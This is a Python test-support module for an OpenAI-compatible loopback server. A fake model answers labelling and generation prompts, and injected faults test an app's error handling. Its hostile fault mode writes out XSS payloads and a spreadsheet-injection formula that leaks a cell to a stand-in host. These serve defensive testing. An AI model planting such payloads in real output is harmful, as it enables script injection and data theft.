"""Loopback OpenAI-compatible chat-completions server for tests, benchmarks and manual runs of the app.

Production code talks to it with the official ``openai`` client unchanged; only ``base_url`` differs. A seedable
"brain" answers labelling and generation prompts sensibly, and scripted or random faults (rate limits, 5xx, hangs,
broken JSON, hostile content) exercise the app's error handling. Standard library only, so it also runs standalone:

    python tests/support/llm_server.py --port 8765 --latency 0.2 --fault-rate 0.2
    python tests/support/llm_server.py --port 8765 --quirks llama-cpp-python --latency 0.3

In tests:

    with LLMServer(port=0, seed=7) as srv:
        client = openai.OpenAI(base_url=srv.base_url, api_key="test")

Quirks (``quirks=[...]`` or a preset name) make it behave as a real local server does where that differs from OpenAI's
API, each recorded from the real server (see QUIRKS). Token counts in ``usage`` are an approximation: one token per word or punctuation run (leading whitespace belongs to
the token after it), plus 3 per prompt message and 3 for the reply priming, as OpenAI's own accounting does.
"""

from __future__ import annotations

import argparse
import hashlib
import json
import math
import random
import re
import signal
import socket
import threading
import time
import uuid
from collections import deque
from collections.abc import Callable, Iterable, Mapping, Sequence
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

# Answers a hostile or broken server really sends (issue 16): each must be counted by the app, never crash a job.
UNTRUSTED_FAULTS = {
    "nul_in_text": "a NUL character (JSON escape) inside every string of the answer except labels",
    "nul_raw": "a raw NUL character in the middle of the content, so the content is not valid JSON",
    "surrogate_text": "a lone UTF-16 surrogate (JSON escape) inside every string of the answer except labels",
    "deep_nesting": "content is '[' repeated 100,000 times",
    "non_string_content": "message.content is the answer's JSON object (or a list), not a string",
    "usage_negative": "usage.prompt_tokens is -1,000,000",
    "usage_overflow": "usage.prompt_tokens is 10**19 (beyond a 64-bit integer)",
    "usage_huge": "usage prompt and completion tokens are 10**12 each",
    "bad_logprobs": "every logprob is 1e6 and every alternative token a number",
    "deep_body": "the response body carries an extra field nested 100,000 deep",
}
FAULTS = ("429", "500", "503", "hang", "truncated_json", "wrong_schema", "hostile", "malformed_body",
          *UNTRUSTED_FAULTS)
NO_FAULT = "ok"
# hang and hostile are left out of the random mix: a hang costs a whole client timeout per hit, and hostile output is
# valid output that a test should ask for on purpose; so are the untrusted answers above.
DEFAULT_RANDOM_FAULTS = ("429", "500", "503", "truncated_json", "wrong_schema", "malformed_body")

# How real OpenAI-compatible servers differ from OpenAI's API (issue 20), each one a mode of this server.
QUIRKS = {
    "json_schema_500": "llama-cpp-python 0.3: a json_schema response format is a request validation error, answered "
                       "with HTTP 500 (its route handler turns every exception into a 500)",
    "schema_in_json_object": "llama-cpp-python and llama.cpp: a schema inside a json_object response format is "
                             "honoured (elsewhere it is ignored)",
    "n_ignored": "llama-cpp-python 0.3: one choice comes back whatever n asks for",
    "n_refused": "llama.cpp's llama-server: n other than 1 is refused, 'Only one completion choice is allowed' "
                 "(HTTP 500 in the builds seen; newer ones answer 400)",
    "max_completion_tokens_ignored": "llama-cpp-python 0.3: max_completion_tokens is ignored, only max_tokens caps",
    "one_at_a_time": "one model, one request at a time: concurrent requests wait in line (latency applies to each)",
    "unconstrained_logprobs": "logprobs come from the distribution before grammar-constrained decoding: a label is "
                              "several tokens, and tokens the JSON grammar forbids sit in the top alternatives",
}
QUIRK_PRESETS = {
    "llama-cpp-python": ("json_schema_500", "schema_in_json_object", "n_ignored", "max_completion_tokens_ignored",
                         "one_at_a_time", "unconstrained_logprobs"),
    "llama.cpp": ("n_refused", "schema_in_json_object"),
}
# The message llama-cpp-python 0.3.36 sends for a json_schema response format (recorded from the real server, its
# install path shortened): FastAPI's RequestValidationError as text, wrapped by its RouteErrorHandler in an OpenAI-style
# error body of type internal_server_error with HTTP 500.
LLAMA_CPP_PYTHON_FORMAT_ERROR = (
    "1 validation error:\n  {'type': 'literal_error', 'loc': ('body', 'response_format', 'type'), "
    "'msg': \"Input should be 'text' or 'json_object'\", 'input': 'json_schema', "
    "'ctx': {'expected': \"'text' or 'json_object'\"}}\n\n"
    "  File \"/venv/lib/python3.11/site-packages/llama_cpp/server/app.py\", line 376, in create_chat_completion\n"
    "    POST /v1/chat/completions"
)
LLAMA_CPP_N_ERROR = "Only one completion choice is allowed"
# Share of the label position's probability that unconstrained logprobs put on tokens the JSON grammar forbids.
FORBIDDEN_MASS = 0.45
_FORBIDDEN_TOKENS = ('"', " The", "\n", "{", " I")

HOSTILE_SCRIPT = "<script>alert(1)</script>"
HOSTILE_IMG = "<img src=x onerror=alert(1)>"
HOSTILE_FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click here")'

MAX_TOP_LOGPROBS = 20
MAX_CHOICES = 128
MAX_SAMPLES = 100

_TOKEN_RE = re.compile(r"\s*\w+|\s*[^\w\s]+|\s+")
_WORD_RE = re.compile(r"[A-Za-z][A-Za-z'-]+")


def tokenize(text: str) -> list[str]:
    """Split text into pseudo-tokens whose concatenation is the text again (see the module docstring)."""
    return _TOKEN_RE.findall(text)


def count_tokens(text: str) -> int:
    return len(tokenize(text))


# ---------------------------------------------------------------------------------------------------------------------
# Reading a request the way a model would


_STOPWORDS = frozenset(
    """a an the and or but if then so of to in on at by for with from as is are was were be been being it its this
    that these those there here i you he she we they me my your our their his her them us do does did not no yes
    very just only also than too can could would should will shall may might must have has had about into over
    under again more most some any each all both few other such own same what which who whom when where why how
    up down out off once while during before after above below between through because until against one two""".split()
)
_INSTRUCTION_WORDS = frozenset(
    """write generate create compose produce invent sample samples example examples text texts label labels labelled
    labeled json return output format field fields object array string schema whose following respond answer please
    task given provide sentence sentences short long length style items item records classify category categories
    class classes exactly reply words word only using make give list""".split()
)

_LABELS_LINE = re.compile(
    r"(?im)^[ \t]*(?:allowed|possible|valid|candidate|available)?[ \t]*(?:labels|categories|classes)[ \t]*"
    r"(?:\([^)\n]*\))?[ \t]*:[ \t]*(.+)$"
)
_TEXT_MARKER = re.compile(r"(?im)^[ \t]*(?:text|input|review|sentence|document|item|example|passage)[ \t]*:[ \t]*")
_TEXT_END = re.compile(r"(?im)^[ \t]*(?:labels?|answer|output|categories|classes|category)[ \t]*:")
_LABEL_CUE = re.compile(
    r"(?i)\b(?:classify|categori[sz]e|which\s+(?:label|category|class)|"
    r"assign\s+(?:a|one|the)\s+(?:label|category)|label\s+(?:the|this|each|following))\b"
)
_MULTI_CUE = re.compile(r"(?i)\b(?:all\s+that\s+apply|one\s+or\s+more|multi-?label)\b")
_GEN_CUE = re.compile(r"(?i)\b(?:write|generate|create|compose|produce|invent)\b")
_COUNT = re.compile(
    r"(?i)\b(\d{1,3})\s+(?:[a-z-]+\s+){0,3}?(?:samples?|examples?|texts?|sentences?|reviews?|items?|messages?|"
    r"posts?|records?|instances?|tweets?|questions?|emails?|headlines?|comments?)\b"
)
_TARGET = re.compile(
    r"(?i)\b(?:target\s+label|label(?:l?ed)?(?:\s+as)?|with\s+(?:the\s+)?label|class|category)\b"
    r"\s*(?:is\s+)?[:=]?\s*[\"'`]?([^\"'`\n,.;)]+)"
)
_TARGET_EXPLICIT = re.compile(r"(?i)\b(?:target\s+)?label\s*(?::|=|\bis\b)\s*[\"'`]?(\w[\w/&-]*)")
_SHORT_CUE = re.compile(r"(?i)\b(?:short|brief|one[- ]sentence|concise)\b")
_LONG_CUE = re.compile(r"(?i)\b(?:long|detailed|paragraph|lengthy)\b")

# Cue words for label names that datasets commonly use, so that keyword overlap gives realistic, mostly-right labels
# on plain English text even when the prompt carries no label descriptions.
LEXICON: dict[str, tuple[str, ...]] = {
    "positive": ("good", "great", "excellent", "wonderful", "love", "loved", "amazing", "best", "enjoyed", "brilliant",
                 "delightful", "fun", "beautiful", "superb", "fantastic", "moving", "charming", "recommend"),
    "negative": ("bad", "terrible", "awful", "boring", "worst", "hate", "hated", "poor", "dull", "disappointing",
                 "waste", "mess", "weak", "annoying", "ugly", "stupid", "broken", "refund"),
    "neutral": ("okay", "average", "fine", "plain", "ordinary", "moderate", "mixed", "standard", "typical"),
    "spam": ("free", "winner", "prize", "click", "offer", "cash", "urgent", "buy", "discount", "claim", "subscribe"),
    "ham": ("meeting", "tomorrow", "thanks", "lunch", "call", "home", "dinner", "later"),
    "sports": ("game", "team", "match", "season", "player", "score", "coach", "league", "championship", "goal"),
    "politics": ("election", "government", "vote", "minister", "policy", "senate", "party", "president", "campaign"),
    "business": ("market", "company", "stock", "profit", "revenue", "economy", "shares", "investors", "bank", "trade"),
    "tech": ("software", "computer", "internet", "phone", "app", "data", "chip", "digital", "online", "device"),
    "technology": ("software", "computer", "internet", "phone", "app", "data", "chip", "digital", "online", "device"),
    "science": ("research", "study", "scientists", "space", "experiment", "discovery", "lab", "physics", "biology"),
    "world": ("country", "international", "war", "foreign", "nations", "border", "capital", "leaders", "crisis"),
    "joy": ("happy", "delighted", "glad", "cheerful", "thrilled", "smile", "celebrate"),
    "anger": ("angry", "furious", "outraged", "annoyed", "mad", "rage", "unacceptable"),
    "sadness": ("sad", "unhappy", "miss", "lonely", "cry", "grief", "heartbroken"),
    "fear": ("afraid", "scared", "worried", "anxious", "terrified", "nervous", "panic"),
    "surprise": ("surprised", "unexpected", "shocked", "suddenly", "wow", "astonished"),
}

_NOUNS = ("story", "service", "team", "product", "ending", "price", "delivery", "update", "plot", "staff", "design",
          "screen", "battery", "weekend", "meeting", "report", "city", "season", "music", "app", "menu", "trip",
          "course", "article")
_ADJECTIVES = ("long", "quiet", "new", "usual", "recent", "small", "local", "second", "final", "early", "simple",
               "familiar")
_VERBS = ("noticed", "expected", "tried", "watched", "bought", "read", "followed", "reviewed", "used", "visited")
_TIMES = ("week", "month", "night", "year", "weekend", "summer")
_TEMPLATES = (
    "The {noun} was {cue} and the {noun2} felt {adj}.",
    "I {verb} the {noun} last {time}, and it was {cue}.",
    "Honestly, the part about {topic} was {cue}.",
    "Everyone kept talking about {topic}, but the {noun} seemed {cue} to me.",
    "After the {adj} {noun}, {topic} looked {cue}.",
    "My take on {topic}: {cue}, {adj}, and a little {adj2}.",
    "We {verb} {topic} together and found it {cue}.",
    "Nobody expected the {noun} around {topic} to be this {cue}.",
)
_FILLERS = ("quite", "really", "just", "still", "rather")
_FILLER_TOKENS = (" the", " a", ",", " and", ".", " is", " it", "\n", " of", " to")


def _stem(word: str) -> str:
    """Crude suffix stripping so that "loved", "loving" and "love" meet; good enough for keyword overlap."""
    word = word.lower()
    for suffix in ("ing", "ed", "ly", "es", "s"):
        if word.endswith(suffix) and len(word) - len(suffix) >= 3:
            word = word[: -len(suffix)]
            break
    if word.endswith("e") and len(word) > 3:
        word = word[:-1]
    return word


def _words(text: str) -> list[str]:
    return [w.lower().strip("'-") for w in _WORD_RE.findall(text)]


def message_text(message: Mapping[str, Any]) -> str:
    content = message.get("content")
    if isinstance(content, str):
        return content
    if isinstance(content, list):
        return "\n".join(
            part.get("text", "") for part in content if isinstance(part, dict) and part.get("type") == "text"
        )
    return ""


class Schema:
    """A JSON schema from ``response_format``, with local ``$ref``/``anyOf`` resolution (pydantic emits both)."""

    def __init__(self, root: Mapping[str, Any]):
        self.root = root

    def resolve(self, node: Any) -> dict[str, Any]:
        for _ in range(32):
            if not isinstance(node, dict):
                return {}
            if isinstance(node.get("$ref"), str):
                node = self._lookup(node["$ref"])
                continue
            options = node.get("anyOf") or node.get("oneOf") or node.get("allOf")
            if isinstance(options, list) and "type" not in node and "properties" not in node:
                resolved = [self.resolve(option) for option in options]
                useful = [option for option in resolved if option.get("type") != "null"]
                return useful[0] if useful else {}
            return node
        return {}

    def _lookup(self, ref: str) -> Any:
        if not ref.startswith("#"):
            return {}
        target: Any = self.root
        for part in ref.lstrip("#").strip("/").split("/"):
            if not part:
                continue
            target = target.get(part, {}) if isinstance(target, dict) else {}
        return target

    def properties(self, node: Any = None) -> dict[str, Any]:
        props = self.resolve(self.root if node is None else node).get("properties")
        return props if isinstance(props, dict) else {}

    def enum_of(self, node: Any) -> list[str] | None:
        resolved = self.resolve(node)
        if isinstance(resolved.get("enum"), list):
            return [str(value) for value in resolved["enum"] if value is not None]
        if "const" in resolved:
            return [str(resolved["const"])]
        return None

    def label_field(self) -> tuple[list[str], bool] | None:
        """Enum of the first ``label`` (single) or ``labels`` (array: multi-label) property, breadth-first."""
        queue: deque[Any] = deque([self.root])
        visited = 0
        while queue and visited < 200:
            visited += 1
            node = self.resolve(queue.popleft())
            for name, sub in self.properties(node).items():
                if name == "label" and self.enum_of(sub):
                    return self.enum_of(sub) or [], False
                if name == "labels":
                    items = self.resolve(sub).get("items")
                    if self.enum_of(items):
                        return self.enum_of(items) or [], True
                queue.append(sub)
            items = node.get("items")
            if items is not None:
                queue.append(items)
        return None


@dataclass
class RequestInfo:
    """What the default brain understood from a request; ``kind`` is ``label``, ``generate`` or ``chat``."""

    kind: str
    prompt: str
    user: str
    labels: list[str] = field(default_factory=list)
    multi_label: bool = False
    text: str = ""
    count: int = 1
    target: str | None = None
    wants_json: bool = False
    schema: Schema | None = None


def _split_labels(value: str) -> list[str]:
    value = value.strip()
    if value.startswith("["):
        try:
            parsed = json.loads(value)
        except ValueError:
            parsed = None
        if isinstance(parsed, list):
            return [str(item).strip() for item in parsed if str(item).strip()]
    parts = re.split(r"\s*(?:,|;|\||\bor\b)\s*", value.strip().rstrip("."))
    return [part.strip().strip("\"'`[]") for part in parts if part.strip().strip("\"'`[]")]


def _text_to_label(user: str) -> str:
    markers = list(_TEXT_MARKER.finditer(user))
    if markers:
        rest = user[markers[-1].end():]
        end = _TEXT_END.search(rest)
        text = rest[: end.start()] if end else rest
    else:
        text = _LABELS_LINE.sub("", user)
    return text.strip().strip("\"'`").strip()


def _target_label(texts: Iterable[str], labels: Sequence[str]) -> str | None:
    longest_first = sorted(labels, key=len, reverse=True)
    for text in texts:
        if not labels:
            # Without a label set only an explicit "label: X" / "label is X" is trusted, not "a label field".
            match = _TARGET_EXPLICIT.search(text)
            if match:
                return match.group(1).strip()
            continue
        for match in _TARGET.finditer(text):
            candidate = match.group(1).strip().lower()
            for label in longest_first:
                if candidate == label.lower() or re.match(re.escape(label.lower()) + r"\b", candidate):
                    return label
    return None


def describe_request(request: Mapping[str, Any]) -> RequestInfo:
    """Decide whether a request asks for labels, generated samples or a plain answer.

    First rule that matches: a ``json_schema`` whose root has ``samples`` or ``text`` -> generate; a schema with a
    ``label`` enum (or ``labels`` array of enum) -> label; a ``Labels: a, b, c`` line and "classify"/"categorize"/
    "which label" in the last user message -> label; "write"/"generate"/"create"/"N samples" in the last user message
    -> generate; a ``Labels:`` line alone -> label; a generation verb in the system prompt -> generate; else chat.
    """
    messages = [m for m in request.get("messages") or [] if isinstance(m, dict)]
    prompt = "\n".join(message_text(m) for m in messages)
    users = [message_text(m) for m in messages if m.get("role") == "user"]
    user = users[-1] if users else prompt
    fmt = request.get("response_format") if isinstance(request.get("response_format"), dict) else {}
    wants_json = fmt.get("type") in ("json_object", "json_schema")
    schema = None
    if fmt.get("type") == "json_schema":
        raw = (fmt.get("json_schema") or {}).get("schema")
        schema = Schema(raw if isinstance(raw, dict) else {})

    labels: list[str] = []
    multi = bool(_MULTI_CUE.search(prompt))
    schema_labels = schema.label_field() if schema else None
    if schema_labels:
        labels, multi = schema_labels[0], schema_labels[1] or multi
    else:
        lines = _LABELS_LINE.findall(prompt)
        if lines:
            labels = _split_labels(lines[-1])

    root_props = schema.properties() if schema else {}
    if "samples" in root_props or "text" in root_props:
        kind = "generate"
    elif schema_labels:
        kind = "label"
    elif labels and _LABEL_CUE.search(user):
        kind = "label"
    elif _GEN_CUE.search(user) or _COUNT.search(user):
        kind = "generate"
    elif labels:
        kind = "label"
    elif _GEN_CUE.search(prompt):
        kind = "generate"
    else:
        kind = "chat"

    info = RequestInfo(kind=kind, prompt=prompt, user=user, labels=labels, multi_label=multi,
                       wants_json=wants_json, schema=schema)
    if kind == "label":
        info.text = _text_to_label(user)
    elif kind == "generate":
        info.count = _sample_count(user, prompt, schema)
        info.target = _target_label([user, prompt], labels)
    return info


def _sample_count(user: str, prompt: str, schema: Schema | None) -> int:
    for text in (user, prompt):
        match = _COUNT.search(text)
        if match:
            return max(1, min(MAX_SAMPLES, int(match.group(1))))
    if schema:
        props = schema.properties()
        if "samples" in props:
            node = schema.resolve(props["samples"])
            if isinstance(node.get("minItems"), int):
                return max(1, min(MAX_SAMPLES, node["minItems"]))
    return 1


# ---------------------------------------------------------------------------------------------------------------------
# The default brain


@dataclass(frozen=True)
class BrainReply:
    """One choice's content; ``label``/``label_probs`` let the server put the brain's confidence into logprobs."""

    text: str
    label: str | None = None
    label_probs: Mapping[str, float] | None = None


Brain = Callable[[dict], "str | BrainReply | Sequence[str | BrainReply]"]


class DefaultBrain:
    """Deterministic stand-in for an LLM: labels by keyword overlap, generates from a word bank plus prompt words.

    Each text has a fixed "belief" over the labels (keyword evidence plus seeded noise), so repeated calls agree in
    proportion to that belief, as self-consistency sampling expects; the label actually answered is sampled from the
    belief (argmax at temperature 0). Identical requests get fresh randomness on every call unless they carry a
    ``seed`` or temperature 0, so results stay reproducible however concurrent requests interleave.
    """

    def __init__(self, seed: int = 0, near_duplicate_rate: float = 0.0):
        self.seed = seed
        self.near_duplicate_rate = near_duplicate_rate
        self._lock = threading.Lock()
        self._seen: dict[str, int] = {}
        self._recent: deque[str] = deque(maxlen=64)

    def __call__(self, request: dict) -> list[BrainReply]:
        info = describe_request(request)
        rng = self._request_rng(request)
        n = request.get("n") or 1
        temperature = request.get("temperature")
        if info.kind == "label":
            return [self._label(info, rng, temperature) for _ in range(n)]
        if info.kind == "generate":
            return [self._generate(info, rng) for _ in range(n)]
        return [self._chat(info, rng) for _ in range(n)]

    def _request_rng(self, request: Mapping[str, Any]) -> random.Random:
        digest = hashlib.sha256(json.dumps(request, sort_keys=True, default=str).encode()).hexdigest()
        if request.get("seed") is not None or request.get("temperature") == 0:
            return random.Random(f"{self.seed}:{digest}")
        with self._lock:
            occurrence = self._seen.get(digest, 0)
            self._seen[digest] = occurrence + 1
        return random.Random(f"{self.seed}:{digest}:{occurrence}")

    # -- labelling --

    def belief(self, info: RequestInfo) -> dict[str, float]:
        """Probability per label for ``info.text``: softmax of keyword evidence plus noise fixed per text."""
        cues = _cue_stems(info)
        stems = [_stem(w) for w in _words(info.text)]
        noise = random.Random(f"{self.seed}|belief|{info.text}|{'|'.join(info.labels)}")
        logits = {
            label: 1.5 * sum(1 for s in stems if s in cues[label]) + noise.gauss(0.0, 0.8) for label in info.labels
        }
        top = max(logits.values())
        weights = {label: math.exp(value - top) for label, value in logits.items()}
        total = sum(weights.values())
        return {label: weight / total for label, weight in weights.items()}

    def _label(self, info: RequestInfo, rng: random.Random, temperature: Any) -> BrainReply:
        if not info.labels:
            return self._chat(info, rng)
        probs = self.belief(info)
        if info.multi_label:
            chosen = [label for label, p in probs.items() if rng.random() < min(0.95, p * len(probs) / 2)]
            chosen = chosen or [max(probs, key=probs.__getitem__)]
            confidence = min(probs[label] for label in chosen)
        else:
            chosen = [_sample(probs, rng, temperature)]
            confidence = probs[chosen[0]]
        # Verbalised confidence is deliberately overconfident, like real models' self-ratings.
        stated = round(min(0.99, math.sqrt(confidence)), 2)
        label = chosen[0]
        if info.schema is not None:
            values = {"label": label, "labels": chosen, "confidence": stated,
                      "rationale": self._rationale(info, label)}
            text = json.dumps(_fill(info.schema, info.schema.root, "", values, rng, info.prompt))
        elif info.wants_json:
            payload: dict[str, Any] = {"labels": chosen} if info.multi_label else {"label": label}
            payload["confidence"] = stated
            text = json.dumps(payload)
        else:
            text = ", ".join(chosen)
        return BrainReply(text=text, label=None if info.multi_label else label,
                          label_probs=None if info.multi_label else probs)

    def _rationale(self, info: RequestInfo, label: str) -> str:
        cues = _cue_stems(info).get(label, set())
        hits = [w for w in _words(info.text) if _stem(w) in cues]
        if hits:
            return f"The text mentions {', '.join(dict.fromkeys(hits[:3]))}, which points to {label}."
        return f"Nothing decisive in the text; {label} fits best."

    # -- generation --

    def _generate(self, info: RequestInfo, rng: random.Random) -> BrainReply:
        cue_words = {label: sorted(words) for label, words in _cue_words(info).items()}
        excluded = {w for words in cue_words.values() for w in words} | {w.lower() for w in info.labels}
        topics = [
            w for w in dict.fromkeys(_words(info.prompt))
            if w not in _STOPWORDS and w not in _INSTRUCTION_WORDS and w not in excluded and len(w) > 3
        ][:40]
        sentences = (1, 1) if _SHORT_CUE.search(info.user) else (3, 4) if _LONG_CUE.search(info.user) else (1, 2)
        samples: list[dict[str, Any]] = []
        for _ in range(info.count):
            label = info.target or (rng.choice(info.labels) if info.labels else None)
            cues = cue_words.get(label, []) if label else []
            texts = [s["text"] for s in samples]
            with self._lock:
                pool = texts + list(self._recent)
            # Drawn only when near duplicates are on, so that a seeded request's answer does not depend on the
            # requests before it.
            if self.near_duplicate_rate and pool and rng.random() < self.near_duplicate_rate:
                text = _near_duplicate(rng.choice(pool), rng)
            else:
                text = _compose(rng, topics, cues, sentences)
                for _ in range(10):
                    if text not in texts:
                        break
                    text = _compose(rng, topics, cues, sentences)
            samples.append({"text": text, "label": label})
        with self._lock:
            self._recent.extend(s["text"] for s in samples)
        if info.schema is not None:
            payload = _fill_generation(info.schema, samples, rng, info.prompt)
        else:
            payload = {"samples": samples}
        return BrainReply(text=json.dumps(payload))

    # -- anything else --

    def _chat(self, info: RequestInfo, rng: random.Random) -> BrainReply:
        words = [w for w in dict.fromkeys(_words(info.user)) if w not in _STOPWORDS and len(w) > 3][:3]
        opener = rng.choice(("Sure.", "Certainly.", "Here you go.", "Of course."))
        subject = ", ".join(words) if words else "your question"
        answer = f"{opener} This is a short answer about {subject}."
        if info.schema is not None:
            answer = json.dumps(_fill(info.schema, info.schema.root, "", {"answer": answer}, rng, info.prompt))
        elif info.wants_json:
            answer = json.dumps({"answer": answer})
        return BrainReply(text=answer)


def _cue_words(info: RequestInfo) -> dict[str, set[str]]:
    """Words that speak for each label: its lexicon entry plus the words of its description in the prompt.

    A description is a prompt line such as ``- positive: the reviewer liked it`` (also ``positive = ...``); the text
    being labelled is left out so that it cannot describe a label. A label with neither falls back to its own name.
    """
    context = info.prompt.replace(info.text, " ") if info.text else info.prompt
    cues: dict[str, set[str]] = {}
    for label in info.labels:
        words: set[str] = set()
        for word in _words(label) + [label.lower()]:
            words.update(LEXICON.get(word, ()))
        description = re.compile(
            r"(?im)^[ \t]*(?:[-*\u2022][ \t]*)?[\"'`]?" + re.escape(label)
            + r"[\"'`]?[ \t]*(?::|=|\s-\s)[ \t]*(.+)$"
        )
        for line in description.findall(context):
            words.update(w for w in _words(line) if w not in _STOPWORDS and len(w) > 2)
        cues[label] = words or set(_words(label))
    return cues


def _cue_stems(info: RequestInfo) -> dict[str, set[str]]:
    """Stems that count as evidence for each label: its cue words plus the words of its own name."""
    return {label: {_stem(w) for w in words | set(_words(label))} for label, words in _cue_words(info).items()}


def _sample(probs: Mapping[str, float], rng: random.Random, temperature: Any) -> str:
    if temperature == 0:
        return max(probs, key=probs.__getitem__)
    power = 1.0 / temperature if isinstance(temperature, (int, float)) and temperature > 0 else 1.0
    weights = [p ** power for p in probs.values()]
    return rng.choices(list(probs), weights=weights)[0]


def _compose(rng: random.Random, topics: Sequence[str], cues: Sequence[str], sentences: tuple[int, int]) -> str:
    parts = []
    for _ in range(rng.randint(*sentences)):
        parts.append(rng.choice(_TEMPLATES).format(
            noun=rng.choice(_NOUNS), noun2=rng.choice(_NOUNS), adj=rng.choice(_ADJECTIVES),
            adj2=rng.choice(_ADJECTIVES), verb=rng.choice(_VERBS), time=rng.choice(_TIMES),
            topic=rng.choice(topics) if topics else rng.choice(_NOUNS),
            cue=rng.choice(cues) if cues else rng.choice(_ADJECTIVES),
        ))
    text = " ".join(parts)
    return text[0].upper() + text[1:]


def _near_duplicate(text: str, rng: random.Random) -> str:
    words = text.split()
    words.insert(rng.randrange(1, len(words) + 1), rng.choice(_FILLERS))
    return " ".join(words)


def _fill(schema: Schema, node: Any, name: str, values: Mapping[str, Any], rng: random.Random, prompt: str) -> Any:
    """An instance of ``node``: known field names take ``values``, everything else gets a plausible filler."""
    node = schema.resolve(node)
    if name in values and _fits(values[name], node):
        return values[name]
    enum = schema.enum_of(node)
    if enum:
        mentioned = [v for v in enum if re.search(r"\b" + re.escape(v) + r"\b", prompt, re.I)]
        return rng.choice(mentioned or enum)
    kind = node.get("type")
    if isinstance(kind, list):
        kind = next((k for k in kind if k != "null"), "string")
    if kind == "object" or "properties" in node:
        return {key: _fill(schema, sub, key, values, rng, prompt) for key, sub in schema.properties(node).items()}
    if kind == "array":
        count = node.get("minItems") if isinstance(node.get("minItems"), int) else 1
        return [_fill(schema, node.get("items", {}), "", values, rng, prompt) for _ in range(count)]
    if kind == "number":
        return round(rng.random(), 2)
    if kind == "integer":
        return rng.randint(1, 5)
    if kind == "boolean":
        return rng.random() < 0.5
    if kind == "null":
        return None
    return rng.choice(_ADJECTIVES) + " " + rng.choice(_NOUNS)


def _fits(value: Any, node: Mapping[str, Any]) -> bool:
    kind = node.get("type")
    kinds = set(kind) if isinstance(kind, list) else {kind} if kind else set()
    if value is None:
        return not kinds or "null" in kinds
    if isinstance(node.get("enum"), list) and value not in node["enum"]:
        return False
    python = {"string": str, "number": (int, float), "integer": int, "boolean": bool, "array": list, "object": dict}
    return not kinds or any(isinstance(value, python[k]) for k in kinds if k in python)


def _fill_generation(schema: Schema, samples: list[dict[str, Any]], rng: random.Random, prompt: str) -> Any:
    props = schema.properties()
    if "samples" in props:
        items = schema.resolve(props["samples"]).get("items", {})
        out = {key: _fill(schema, sub, key, {}, rng, prompt) for key, sub in props.items() if key != "samples"}
        out["samples"] = [_fill(schema, items, "", sample, rng, prompt) for sample in samples]
        return out
    return _fill(schema, schema.root, "", samples[0], rng, prompt)


# ---------------------------------------------------------------------------------------------------------------------
# Faults applied to content


def _hostile(value: Any) -> Any:
    if isinstance(value, dict):
        return {k: (v if k in ("label", "labels") else _hostile(v)) for k, v in value.items()}
    if isinstance(value, list):
        return [_hostile(v) for v in value]
    if isinstance(value, str):
        # The formula goes first because spreadsheet injection only fires when a cell starts with "=".
        return f"{HOSTILE_FORMULA} {value} {HOSTILE_SCRIPT} {HOSTILE_IMG}"
    return value


def _make_hostile(content: str) -> str:
    try:
        parsed = json.loads(content)
    except ValueError:
        return _hostile(content)
    if isinstance(parsed, dict) and not any(isinstance(v, (str, list, dict)) and k not in ("label", "labels")
                                            for k, v in parsed.items()):
        parsed["rationale"] = "See the note."
    return json.dumps(_hostile(parsed))


_WRONG_KEYS = {"label": "category", "labels": "categories", "samples": "items", "text": "content",
               "confidence": "certainty", "answer": "reply"}


def _rename_keys(value: Any) -> Any:
    if isinstance(value, dict):
        return {_WRONG_KEYS.get(k, k + "_value"): _rename_keys(v) for k, v in value.items()}
    if isinstance(value, list):
        return [_rename_keys(v) for v in value]
    return value


def _make_wrong_schema(content: str) -> str:
    try:
        parsed = json.loads(content)
    except ValueError:
        return json.dumps({"reply": content})
    return json.dumps(_rename_keys(parsed) if isinstance(parsed, (dict, list)) else {"reply": parsed})


def _make_truncated(content: str) -> str:
    if not content.lstrip().startswith(("{", "[")):
        content = json.dumps({"answer": content})
    cut = content[: max(1, len(content) // 2)]
    while cut and _parses(cut):
        cut = cut[:-1]
    return cut


DEEP = 100_000


def _in_strings(value: Any, mark: str) -> Any:
    """``mark`` inserted in the middle of every string except label values, so the answer keeps its shape."""
    if isinstance(value, dict):
        return {k: (v if k in ("label", "labels") else _in_strings(v, mark)) for k, v in value.items()}
    if isinstance(value, list):
        return [_in_strings(v, mark) for v in value]
    if isinstance(value, str):
        return value[: len(value) // 2] + mark + value[len(value) // 2:]
    return value


def _make_marked(mark: str) -> Callable[[str], str]:
    def make(content: str) -> str:
        try:
            parsed = json.loads(content)
        except ValueError:
            return _in_strings(content, mark)
        return json.dumps(_in_strings(parsed, mark))

    return make


_CONTENT_FAULTS: dict[str, Callable[[str], str]] = {
    "nul_in_text": _make_marked("\x00"),
    "nul_raw": lambda content: content[: len(content) // 2] + "\x00" + content[len(content) // 2:],
    "surrogate_text": _make_marked("\ud800"),
    "deep_nesting": lambda content: "[" * DEEP,
}


def _as_object(content: str) -> Any:
    try:
        parsed = json.loads(content)
    except ValueError:
        return [content]
    return parsed if isinstance(parsed, (dict, list)) else [parsed]


def _absurd_logprobs(entries: list[dict]) -> list[dict]:
    return [{**entry, "logprob": 1e6,
             "top_logprobs": [{**alt, "token": 42, "logprob": 1e6} for alt in entry["top_logprobs"]]}
            for entry in entries]


def _parses(text: str) -> bool:
    try:
        json.loads(text)
    except ValueError:
        return False
    return True


# ---------------------------------------------------------------------------------------------------------------------
# The server


class _RequestError(Exception):
    def __init__(self, status: int, message: str, *, param: str | None = None, code: str | None = None,
                 kind: str = "invalid_request_error"):
        super().__init__(message)
        self.status, self.message, self.param, self.code, self.kind = status, message, param, code, kind


def _error_body(message: str, kind: str, *, param: str | None = None, code: str | None = None) -> bytes:
    return json.dumps({"error": {"message": message, "type": kind, "param": param, "code": code}}).encode()


_Reply = tuple[int, list[tuple[str, str]], bytes]


class _HTTPServer(ThreadingHTTPServer):
    daemon_threads = True
    # Benchmarks open bursts of connections; the default backlog of 5 would reset some of them.
    request_queue_size = 1024
    llm: LLMServer


class _Handler(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    server_version = "synthstudio-llm-server/1"
    # Keep-alive connections the client forgot must not pin a thread forever.
    timeout = 60
    # Headers and body go out in two writes; with Nagle on, delayed ACKs add ~40 ms to every response.
    disable_nagle_algorithm = True
    server: _HTTPServer

    def setup(self) -> None:
        super().setup()
        self.server.llm._track_connection(self.connection, open_=True)

    def finish(self) -> None:
        try:
            super().finish()
        finally:
            self.server.llm._track_connection(self.connection, open_=False)

    def log_message(self, format: str, *args: Any) -> None:
        if self.server.llm.verbose:
